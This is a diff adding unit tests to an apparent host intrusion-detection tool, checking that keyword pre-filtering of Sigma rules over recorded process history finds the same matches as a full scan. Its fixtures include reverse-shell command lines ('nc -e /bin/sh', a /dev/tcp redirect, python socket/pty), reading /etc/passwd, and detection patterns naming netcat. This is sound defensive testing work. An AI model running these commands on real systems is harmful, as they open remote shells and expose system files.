@@ -14,9 +14,11 @@ from tests.unit.host.judge.recording import START, Recording
 from wachhund.cli import main
 from wachhund.judge.engine import Judge
 from wachhund.judge.loop import fact_of
-from wachhund.judge.sigma import load_rules
+from wachhund.judge.rule import Rule
+from wachhund.judge.sigma import load_rules, rules_in
 from wachhund.keeping.moments import parse_since as since
 from wachhund.ledger import Robot
+from wachhund.rulebook.history import Span, look_back, words_of
 from wachhund_evidence import MisuseError, Observation
 
 DAY = 86_400.0
@@ -225,6 +227,60 @@ def test_a_trial_as_json_holds_the_same(history: History, rule: str, capsys: pyt
     told = json.loads(capsys.readouterr().out)
     assert [(day["robot"], day["matches"], day["incidents"]) for day in told["days"]] == [("go1-08", 1, 1)]
     assert len(told["newest"]) == 1
+
+
+def rules_of(*detections: str, category: str = "process_creation") -> list[Rule]:
+    """Rules with these detections."""
+    made = []
+    for number, detection in enumerate(detections):
+        text = RULE.replace("{a: {Image|endswith: /nc}, condition: a}", detection)
+        text = text.replace("000000000001", f"{number:012d}").replace("process_creation", category)
+        made += rules_in(text).rules
+    assert len(made) == len(detections)
+    return made
+
+
+@pytest.mark.parametrize(
+    ("detections", "words"),
+    [
+        (["{a: {Image|endswith: /nc}, condition: a}"], ["/nc"]),
+        (["{a: {CommandLine|contains: 'nc -e /bin/sh'}, condition: a}"], ["/bin/sh"]),
+        (["{a: {CommandLine|contains: ['a b', 'abc']}, condition: a}"], []),
+        (["{a: {CommandLine|contains: 'äöü'}, condition: a}"], []),
+        (["{a: {ParentCommandLine|contains: abc}, condition: a}"], []),
+        (["{a: {Image: abc}, condition: a}", "{a: {User: xyz}, condition: a}"], ["abc", "xyz"]),
+        (["{a: {Image: abc}, condition: a}", "{a: {ProcessId: 5}, condition: a}"], []),
+    ],
+)
+def test_what_sqlite_may_leave_out_follows_from_the_rules(detections: list[str], words: list[str]) -> None:
+    """A hunt that reads only what may match must not read too little."""
+    assert words_of(rules_of(*detections)) == words
+
+
+def test_connections_are_read_whole() -> None:
+    """A rule sees a connection once, so that what came before must be known."""
+    assert words_of(rules_of("{a: {Image: abc}, condition: a}", category="network_connection")) == []
+
+
+def test_a_hunt_that_leaves_most_to_sqlite_finds_what_reading_all_finds(history: History, sigma: Path) -> None:
+    """Each rule by itself: with the words that follow from it, and without."""
+    told = [
+        ["crontab", "/tmp/x"], ["nc", "-e", "/bin/sh", "1.2.3.4"], ["base64", "-d", "x"], ["CHATTR", "-i", "/etc/x"],
+        ["bash", "-c", "echo 'it''s' \"100%\" > /dev/tcp/1.2.3.4/5"], ["curl", "-o", "/tmp/ä", "http://x/a_b"], ["id"],
+        ["python3", "-c", "import socket;import pty"], ["sh", "-c", "cat /etc/passwd | base64 -d"], ["uname", "-a"],
+    ]  # fmt: skip
+    for number, argv in enumerate(told):
+        history.program("go1-08", 0.9 - number / 100, f"/usr/bin/{argv[0]}", argv)
+    found = 0
+    for rule in load_rules((sigma,)).rules:
+        if rule.category != "process_creation":
+            continue
+        bare = Rule(**{**vars(rule), "literals": None})
+        spans = [look_back(history.bench.ledger, [one], Span(0.0), None) for one in (rule, bare)]
+        sieved, whole = ([match.fact.ref for match in matches] for matches in spans)
+        assert sieved == whole, rule.title
+        found += len(whole)
+    assert found >= 8
 
 
 def test_spans_are_given_in_days_or_as_a_moment() -> None:
